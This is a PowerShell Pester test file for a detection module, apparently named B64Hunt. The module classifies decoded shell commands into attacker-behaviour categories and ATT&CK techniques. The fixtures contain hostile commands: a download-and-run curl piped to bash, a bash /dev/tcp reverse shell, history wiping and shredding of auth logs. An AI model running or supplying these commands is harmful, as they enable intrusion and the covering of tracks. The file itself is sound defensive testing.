BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Fixtures = Join-Path $PSScriptRoot '../B64Hunt.Engine.Tests/Fixtures/Classification'
}

Describe 'Add-B64Category' {
    It 'turns piped strings into categorised events' {
        $out = 'curl -s http://198.51.100.7/i.sh | bash', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' | Add-B64Category
        $out | Should -HaveCount 2
        $out[0] | Should -BeOfType B64Hunt.Model.CommandEvent
        $out[0].DecodedCommand | Should -Be 'curl -s http://198.51.100.7/i.sh | bash'
        $out[0].Categories | Should -Be @('Network connections/Downloading', 'Execution of downloaded code')
        $out[0].Techniques | Should -Contain 'T1105'
        $out[1].Categories | Should -Be @('Reverse shell')
        $out[1].Techniques | Should -Be @('T1059.004', 'T1095')
    }

    It 'passes CommandEvents through as the same objects, appending without duplicates' {
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'history -c; unset HISTFILE'; Computer = 'web01' }
        $e.Categories.Add('Defence evasion')
        $out = $e, $e | Add-B64Category
        [object]::ReferenceEquals($out[0], $e) | Should -BeTrue
        # The old spelling it carried takes ATT&CK's, not listed twice.
        $e.Categories | Should -Be @('Defense evasion')
        $e.Techniques | Should -Be @('T1070.003', 'T1562.003')
    }

    It 'accepts the old spelling "Defence evasion" in rule files, risk sections and -Category filters' {
        $rules = Join-Path ([System.IO.Path]::GetTempPath()) ("b64rules-" + [guid]::NewGuid() + '.yaml')
        @(
            'rules:'
            '  - id: my-shred'
            '    category: Defence evasion'
            '    techniques: [T1070.004]'
            '    commands: [shred]'
            'risk:'
            '  categories:'
            '    Defence evasion: { points: 4.5, tactics: [Defense Evasion] }'
        ) | Set-Content -LiteralPath $rules
        try {
            $e = 'shred -u /var/log/auth.log' | Add-B64Category -RulePath $rules
            $e.Categories | Should -Contain 'Defense evasion'
            $e.Categories | Should -Not -Contain 'Defence evasion'
            ($e.Behaviours | Where-Object RuleId -eq 'my-shred').Risk | Should -Be 4.5
            # A saved event's old-spelled category (no rule hits) scores as the current one.
            $saved = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'x1'; Computer = 'h1' }; $saved.Categories.Add('Defence evasion')
            $same = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'x2'; Computer = 'h1' }; $same.Categories.Add('Defense evasion')
            $scores = $saved, $same | Measure-B64Score
            $scores[0].BehaviourScore | Should -BeGreaterThan 0
            $scores[0].BehaviourScore | Should -Be $scores[1].BehaviourScore
            $old = Get-B64CategoryRule -Category 'Defence evasion' -RulePath $rules
            $new = Get-B64CategoryRule -Category 'Defense evasion' -RulePath $rules
            $old.Id | Should -Be $new.Id
            $old.Id | Should -Contain 'my-shred'
            @(Get-B64CategoryRule -Category 'Defence*').Count | Should -BeGreaterThan 0
            (Get-B64CategoryRule).Category | Should -Not -Contain 'Defence evasion'
        } finally { Remove-Item -LiteralPath $rules -ErrorAction SilentlyContinue }
    }

    It 'does not match substrings or arguments' {
        ('cat /tmp/cpu' | Add-B64Category).Categories | Should -BeNullOrEmpty
        ('sed -n 1p notes.txt; echo rm -rf /' | Add-B64Category).Categories | Should -BeNullOrEmpty
    }

    It 'merges a user rule file: add, override, disable' {
        $rules = Join-Path $Fixtures 'user-rules.yaml'
        ('deployctl push' | Add-B64Category -RulePath $rules).Categories | Should -Be @('Company tooling')
        ('kill 42' | Add-B64Category -RulePath $rules).Categories | Should -BeNullOrEmpty
        ('sudo id' | Add-B64Category -RulePath $rules).Categories | Should -Not -Contain 'Privilege escalation'
        ('sudo id' | Add-B64Category).Categories | Should -Contain 'Privilege escalation'
    }

    It 'stops with InvalidCategoryRuleFile naming the file, line and column' {
        $bad = Join-Path $Fixtures 'bad-indent.yaml'
        $err = $null
        try { 'id' | Add-B64Category -RulePath $bad -ErrorAction Stop } catch { $err = $_ }
        $err | Should -Not -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -BeLike 'InvalidCategoryRuleFile,*'
        $err.TargetObject | Should -BeLike '*bad-indent.yaml'
        $err.ToString() | Should -BeLike '*bad-indent.yaml(5,4)*'
    }

    It 'reports input that is neither an event nor a string and goes on' {
        $out = Add-B64Category -InputObject @(42, 'id') -ErrorVariable errs -ErrorAction SilentlyContinue
        $out | Should -HaveCount 1
        $errs[0].FullyQualifiedErrorId | Should -BeLike 'UnsupportedInputObject,*'
    }
}

Describe 'Get-B64CategoryRule' {
    It 'lists the bundled rules with techniques and source file' {
        $rules = Get-B64CategoryRule
        $rules.Count | Should -BeGreaterThan 90
        $rule = $rules | Where-Object Id -eq 'persist-authorized-keys'
        $rule.Category | Should -Be 'Persistence'
        $rule.Techniques | Should -Be @('T1098.004')
        $rule.SourceFile | Should -BeLike '*categories.yaml'
        ($rules.Category | Sort-Object -Unique) | Should -Contain 'Archive/Compression programs'
    }

    It 'filters by id and category and shows merged rules' {
        (Get-B64CategoryRule -Id 'revshell-*').Category | Sort-Object -Unique | Should -Be 'Reverse shell'
        $merged = Get-B64CategoryRule -RulePath (Join-Path $Fixtures 'user-rules.yaml') -Category 'Company tooling'
        $merged.Id | Should -Be 'custom-company-tool'
        Get-B64CategoryRule -RulePath (Join-Path $Fixtures 'user-rules.yaml') -Id 'privesc-sudo' | Should -BeNullOrEmpty
    }

    It 'has help with examples' {
        $help = Get-Help Get-B64CategoryRule
        $help.Synopsis | Should -Match 'category rules'
        @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
    }
}
